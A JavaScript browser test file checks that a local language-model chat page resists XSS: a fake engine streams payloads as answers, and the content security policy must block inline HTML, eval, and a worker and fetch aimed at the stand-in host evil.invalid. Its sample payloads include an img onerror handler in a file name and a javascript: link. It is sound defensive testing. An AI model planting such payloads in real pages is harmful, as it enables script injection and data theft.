// H5, H6: the corpus in Chromium, in the page as it is built and with its real policy. A made-up engine says what a
// model might say; whatever runs, fetches, navigates or becomes another element or attribute is a failure.

import { existsSync, readdirSync } from "node:fs";
import { Browser, findChromium } from "./browser.mjs";
import { expect, expectEqual, WebReport } from "./report.mjs";
import { readOptions, servePage } from "./setup.mjs";
import { elementFault, xssCorpus } from "./xss_corpus.mjs";

const options = readOptions();
const FOLDER = options.modules;
// A third of the payloads, of every family and in every place; page_xss_test.mjs has them all.
const EVERY = process.env.LBM_XSS_ALL ? 1 : 3;
const N_STREAMED = 12; // those that come one character a frame
const report = new WebReport({ deadlineMs: 240_000 });

// Answers question "N" with payload N of the corpus, "N slowly" one character at a time.
const engine = (payloads) => `
const payloads = ${JSON.stringify(payloads)};
export const capabilities = () => ({
  simd: true, relaxedSimd: true, sharedMemory: false, webgpu: false, opfs: true, hardwareConcurrency: 1,
  maxModelBytes: 2 ** 31, notes: [],
});
class Model {
  generate(messages) {
    const [number, how] = messages.at(-1).content.split(" ");
    return (async function* () {
      const parts = how === "slowly" ? payloads[number] : [payloads[number]];
      for (const text of parts) {
        yield { id: 1, text, reasoning: text };
        if (how === "slowly") await new Promise((next) => requestAnimationFrame(next));
      }
      return { stop: "eog", n_evaluated: 1 };
    })();
  }
  async diagnostics() {
    const sizes = { n_ctx: 9, n_ctx_train: 9, n_past: 1, n_vocab: 1, n_layer: 1, weight_bytes: 1, kv_bytes: 1 };
    const texts = { sha256: "", has_template: true, template_note: payloads[0], tokenizer: payloads[1] };
    return { n_thread: 1, kernels: "none", model: { ...sizes, ...texts } };
  }
  async free() {}
}
export const createModel = async () => new Model();
`;

// Of every element that was made of an answer, its name and attributes; run in the page.
function elementsOfAnswers() {
  const own = (element) => element.closest("figure.code") !== null || element.matches(".group, .wide");
  return [...document.querySelectorAll(".markdown *")]
    .filter((element) => !own(element))
    .map((element) => [
      element.localName,
      Object.fromEntries([...element.attributes].map(({ name, value }) => [name, value])),
    ]);
}

const engineFolder = existsSync(`${FOLDER}/assets`)
  ? readdirSync(`${FOLDER}/assets`).find((name) => name.startsWith("engine-"))
  : undefined;
if (findChromium() === null || engineFolder === undefined) {
  report.skip(findChromium() === null ? "there is no Chromium" : `there is no page in ${FOLDER} (make web)`);
} else {
  const corpus = xssCorpus().filter((_, i) => i % EVERY === 0);
  const server = await servePage(options, {
    files: {
      [`/assets/${engineFolder}/lib/lbm.mjs`]: new TextEncoder().encode(engine(corpus)),
      "/sw.js": new TextEncoder().encode(""),
    },
  });
  const browser = await Browser.launch();
  const requests = [];
  const hits = [];
  browser.context.on("request", (request) => requests.push(request.url()));
  await browser.context.exposeFunction("__report", (what) => void hits.push(what));
  await browser.context.addInitScript(() => {
    globalThis.__hit = (what) => globalThis.__report(`script ${what}`);
    addEventListener("securitypolicyviolation", (event) =>
      globalThis.__report(`violation ${event.violatedDirective} ${event.blockedURI}`),
    );
    for (const name of ["alert", "confirm", "prompt", "open"]) globalThis[name] = () => globalThis.__report(name);
  });

  const page = await browser.open(server.url("/"));
  page.on("framenavigated", (frame) => hits.push(`navigation to ${frame.url()}`));
  const ask = async (question) => {
    await page.getByTestId("question").fill(question);
    await page.keyboard.press("Enter");
    await page.waitForFunction((text) => {
      const last = [...document.querySelectorAll("[data-testid=turn]")].at(-1);
      return (
        last?.querySelector("[data-testid=asked]")?.textContent === text &&
        last.querySelector("[data-testid=answer]:not([data-state=running])")
      );
    }, question);
  };
  const check = async (what) => {
    for (const [tag, attrs] of await page.evaluate(elementsOfAnswers)) {
      const fault = elementFault(tag, attrs);
      if (fault !== null) throw new Error(`${fault}: ${what}`);
    }
    expectEqual(hits, [], what);
    const foreign = requests.filter((url) => !url.startsWith(server.origin) && !url.startsWith("blob:"));
    expectEqual(foreign, [], `requests, ${what}`);
  };

  await report.run(
    "H5: the page is isolated, and its policy stops what is inline, strings as HTML and other servers",
    async () => {
      expectEqual(await page.evaluate(() => crossOriginIsolated), true, "crossOriginIsolated");
      const stopped = await page.evaluate(async () => {
        const tries = {
          html: () => {
            document.createElement("div").innerHTML = "<b>x</b>";
          },
          script: () => {
            document.createElement("script").text = "1";
          },
          eval: () => (0, eval)("1"),
          handler: () => document.createElement("p").setAttribute("onclick", "__hit('inline')"),
          worker: () => new Worker("https://evil.invalid/x.mjs"),
          fetch: () => fetch("https://evil.invalid/"),
        };
        const result = {};
        await new Promise((next) => setTimeout(next)); // what the driver itself runs may eval
        for (const [name, f] of Object.entries(tries)) {
          try {
            await f();
            result[name] = "done";
          } catch (error) {
            result[name] = "stopped";
          }
        }
        return result;
      });
      expectEqual(
        stopped,
        {
          html: "stopped",
          script: "stopped",
          eval: "stopped",
          handler: "stopped",
          worker: "stopped",
          fetch: "stopped",
        },
        "tries",
      );
      await page.waitForTimeout(100);
      expect(
        hits.some((what) => what.includes("connect-src")) && !hits.some((what) => what.startsWith("script")),
        hits.join("; "),
      );
      hits.splice(0);
      requests.splice(0);
      browser.problems.splice(0); // those were of these tries
    },
  );

  await report.run("a model is loaded, whose name is an attack, too", async () => {
    await page.getByText("Keep a copy in this browser").click();
    await page.getByTestId("model-file").setInputFiles({
      name: "<img src=x onerror=__hit(1)>.gguf",
      mimeType: "application/octet-stream",
      buffer: Buffer.from("GGUF"),
    });
    await page.waitForSelector("[data-testid=model-chip][data-state=ready]");
    await page.getByTestId("model-chip").click();
    await page.waitForSelector("[data-testid=provenance]");
    await page.getByTestId("panel-close").click();
    await check("the name of a model");
  });

  await report.run(
    `H6: ${corpus.length} payloads as answers: no script, no request, no navigation, no other element or attribute`,
    async () => {
      for (const [number, payload] of corpus.entries()) {
        if (number % 40 === 0) await page.getByTestId("new-conversation").click();
        await ask(String(number));
        if (number % 40 === 39 || number === corpus.length - 1)
          await check(`up to payload ${number}: ${JSON.stringify(payload)}`);
      }
    },
    { deadlineMs: 400_000 },
  );

  await report.run(`H6: ${N_STREAMED} payloads of all families, one character a frame`, async () => {
    await page.getByTestId("new-conversation").click();
    const step = Math.floor(corpus.length / N_STREAMED);
    for (let i = 0; i < N_STREAMED; ++i) {
      const number = i * step;
      await ask(`${number} slowly`);
      await check(JSON.stringify(corpus[number]));
    }
  });

  await report.run("H6: a question that is an attack is text, in the conversation and in the list", async () => {
    const attack = "<img src=x onerror=__hit(1)> [x](javascript:__hit(1))";
    await page.getByTestId("new-conversation").click();
    await page.getByTestId("question").fill(attack);
    await page.keyboard.press("Enter");
    await page.waitForSelector("[data-testid=asked]");
    expectEqual(await page.getByTestId("asked").textContent(), attack, "the question");
    expectEqual(await page.getByTestId("conversation").first().textContent(), attack, "the list");
    await check("a question");
  });

  await report.run("H6: pressing every link of the attacks leaves the page where it is", async () => {
    const number = corpus.findIndex((payload) => payload.startsWith("[press](") && payload.includes("script"));
    const fine = corpus.findIndex((payload) => payload.startsWith("<https://evil.invalid/"));
    expect(number >= 0 && fine >= 0, "payloads with links");
    await page.getByTestId("new-conversation").click();
    await ask(String(number));
    expectEqual(await page.locator(".markdown a").count(), 0, "links of javascript:");
    await ask(String(fine));
    await page
      .locator(".markdown a")
      .last()
      .evaluate((link) => link.addEventListener("click", (event) => event.preventDefault()));
    await page.locator(".markdown a").last().click();
    await check("a press");
  });

  await report.run("the console has no complaint of the page", () => {
    const other = browser.problems.filter((line) => !line.includes("evil.invalid"));
    expectEqual(other, [], "problems");
  });

  await browser.close();
  await server.close();
}
report.finish();
